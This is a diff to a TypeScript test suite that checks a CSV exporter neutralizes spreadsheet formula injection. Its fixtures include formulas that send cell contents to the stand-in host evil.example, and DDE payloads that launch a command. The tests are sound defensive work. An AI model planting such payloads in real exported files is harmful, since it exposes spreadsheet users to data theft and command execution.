@@ -6,6 +6,7 @@ import type { Issue } from '../types';
 import { arbitraryDataset } from '../../../testing/arbitraryDataset';
 import { OKABE_ITO } from './assembleDataset';
 import { CSV_COLUMNS, datasetToCsv, normalizeHeader, parseCsv } from './csv';
+import { neutralizeFormula, readCsvRecords, restoreFormula } from './csvRecords';
 
 const HEADER = 'id,title,summary,start,end,place,lat,lon,country,place_precision,category,sources';
 const meta = {
@@ -296,6 +297,75 @@ describe('CSV round trip', () => {
 		expect(text).toContain(',"x; y",');
 		expect(text).toContain('"[""a;b""]"');
 		expect(text).toContain(',bbc@p. 1,');
+	});
+});
+
+// Cells such as =HYPERLINK(…) were written as they are, and spreadsheets ran them.
+describe('CSV export neutralizes formulas', () => {
+	const formulas = [
+		'=HYPERLINK("https://evil.example/?"&A1,"Click")',
+		'=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
+		"+cmd|' /C calc'!A0",
+		"-2+3+cmd|' /C calc'!A0",
+		"@SUM(1+1)*cmd|' /C calc'!A0",
+		'\t=1+1',
+		'\r=1+1',
+		"'=1+1",
+		"''=1+1"
+	];
+	const canonical = S.Dataset.parse({
+		meta,
+		sources,
+		events: formulas.map((f, i) => ({
+			id: `e${i}`,
+			title: f,
+			summary: f,
+			start: i === 0 ? '-0044-03-15' : '2020',
+			dateNote: f,
+			place: { name: f, precision: 'site', lat: -33.86, lon: -151.2, note: f },
+			category: 'protest',
+			tags: [f],
+			actors: [f, 'b'],
+			sources: [{ source: 'bbc', locator: f }],
+			computed: f
+		}))
+	});
+	const { csv: text, sidecar } = datasetToCsv(canonical);
+
+	it('starts no cell with = + - @, tab or CR, except plain numbers', () => {
+		const cells = readCsvRecords(text).records.flatMap((r) => r.cells);
+		const risky = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
+		expect(risky.sort()).toEqual(['-151.2', '-33.86'].flatMap((n) => formulas.map(() => n)).sort());
+		expect(cells).toContain("'-0044-03-15");
+	});
+
+	it('reads back exactly what it wrote', () => {
+		const side = JSON.parse(sidecar);
+		const r = parseCsv(text, { file: 'x.csv', meta: side.meta, sources: side.sources });
+		expect(errors(r.issues)).toEqual([]);
+		expect(r.dataset?.events).toEqual(canonical.events);
+	});
+
+	it.each([
+		['=1+1', "'=1+1"],
+		["'=1+1", "''=1+1"],
+		['\tx', "'\tx"],
+		['-5', '-5'],
+		['-0044', '-0044'],
+		['1e5', '1e5'],
+		['-5 apples', "'-5 apples"],
+		["'quoted'", "'quoted'"],
+		['', '']
+	])('neutralizeFormula(%j) is %j, and restoreFormula undoes it', (value, cell) => {
+		expect(neutralizeFormula(value)).toBe(cell);
+		expect(restoreFormula(cell)).toBe(value);
+	});
+
+	it('reads a hand-written quote before a formula as a neutralized cell', () => {
+		const r = parseCsv("title,start,place\n'=1+1,2020,Online\n'plain,2021,Online\n", {
+			file: 'e.csv'
+		});
+		expect(r.dataset?.events.map((e) => e.title)).toEqual(['=1+1', "'plain"]);
 	});
 });
 
